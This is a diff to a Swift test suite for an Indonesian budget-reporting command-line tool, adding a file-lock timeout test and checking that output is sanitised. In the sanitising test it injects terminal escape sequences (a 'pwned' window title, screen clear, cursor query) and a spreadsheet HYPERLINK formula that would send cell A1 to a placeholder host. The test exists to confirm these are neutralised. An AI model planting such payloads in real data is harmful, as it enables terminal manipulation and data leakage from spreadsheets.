@@ -2,6 +2,7 @@ import Foundation
 import Model
 import GudangBerkas
 import Testing
+import UjiBersama
 #if canImport(Glibc)
 import Glibc
 #endif
@@ -35,7 +36,19 @@ import Glibc
     }
 
     // 1. A writer that cannot get the lock waits, says so, then gives up changing nothing.
-    @Test func setWaitsForTheLockThenGivesUp() throws {
+    /// The lock is exclusive and waits with a timeout, saying after a second that it waits.
+    @Test(.tags(.lambat), .lajur(.lambat)) func aSecondWriterWaitsForTheLockThenGivesUp() throws {
+        let held = try #require(try Kunci.ambil(data))
+        var told = false
+        let start = Date()
+        #expect(throws: GalatBerkas.self) { _ = try Kunci.ambil(data, batas: 1.2) { told = true } }
+        #expect(Date().timeIntervalSince(start) >= 1.2)
+        #expect(told)
+        held.lepas()
+        #expect(try Kunci.ambil(data, batas: 0.1) != nil)
+    }
+
+    @Test(.tags(.lambat), .lajur(.lambat)) func setWaitsForTheLockThenGivesUp() throws {
         let before = try bytes(data)
         let held = folder.appendingPathComponent("dipegang").path
         let r = try sh("flock \(data) sh -c 'touch \(held); sleep 4' & while [ ! -e \(held) ]; do sleep 0.05; done; $K set \(data) 2.1.4 --target 80; echo $? > \(held).rc; wait; exit $(cat \(held).rc)",
@@ -67,7 +80,7 @@ import Glibc
         let text = try String(contentsOfFile: data, encoding: .utf8)
         let slip = folder.appendingPathComponent("salah.json").path
         let first = try #require(text.range(of: "\"realisasi\": 8"))
-        try text.replacingCharacters(in: first, with: "\"realisai\": 8").write(toFile: slip, atomically: true, encoding: .utf8)
+        try text.replacingCharacters(in: first, with: "\"realisai\": 8").write(toFile: slip, atomically: false, encoding: .utf8)
         let r = try Proses.perintah(["check", slip])
         #expect(r.keluar == 1)
         #expect(r.stderr == "kinerja: \(slip): program[0].kegiatan[1].tertulis.realisai (baris 372, kolom 13): kolom 'realisai' tidak dikenal; maksud Anda 'realisasi'? kolom yang dikenal di sini: pagu, realisasi, usang. Perbaiki atau hapus kolom itu: kinerja tidak menyimpan yang tidak dikenalnya\n")
@@ -122,7 +135,7 @@ import Glibc
         text = text.replacingOccurrences(of: "\"nama\": \"Penyediaan Tempat Penampungan Pengungsi\"",
                                          with: "\"nama\": \"Penyediaan\\u001b]0;pwned\\u0007\\u001b[2J\\u009b6n\\u202ekiri\"")
         text = text.replacingOccurrences(of: "\"nama\": \"Penanganan Bencana\"", with: "\"nama\": \"=HYPERLINK(\\\"http://x/?\\\"&A1,\\\"klik\\\")\"")
-        try text.write(toFile: data, atomically: true, encoding: .utf8)
+        try text.write(toFile: data, atomically: false, encoding: .utf8)
         let runs = [["show", data, "1.06.06.2.01.03"], ["report", data, "anggaran"], ["report", data, "anggaran", "--format", "md"],
                     ["report", data, "triwulan"], ["check", data]]
         for args in runs {
@@ -135,11 +148,11 @@ import Glibc
         #expect(try Proses.perintah(["show", data, "1.06.06.2.01.03"]).stdout.contains("Penyediaan?]0;pwned??[2J?6n?kiri"))
         // An error message quoting a name (a duplicate code) is neutralised too.
         let dup = text.replacingOccurrences(of: "\"kode\": \"1.06.06.2.01.02\"", with: "\"kode\": \"1.06.06.2.01.03\"")
-        try dup.write(toFile: data, atomically: true, encoding: .utf8)
+        try dup.write(toFile: data, atomically: false, encoding: .utf8)
         let e = try Proses.perintah(["check", data])
         #expect(e.keluar == 1)
         #expect(!e.stderr.unicodeScalars.contains { TeksAman.berbahaya($0) && $0 != "\n" })
-        try text.write(toFile: data, atomically: true, encoding: .utf8)
+        try text.write(toFile: data, atomically: false, encoding: .utf8)
         for excel in [false, true] {
             let csv = try Proses.perintah(["report", data, "anggaran", "--format", "csv"] + (excel ? ["--excel-id"] : [])).stdout
             #expect(csv.contains("\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"klik\"\")\""))
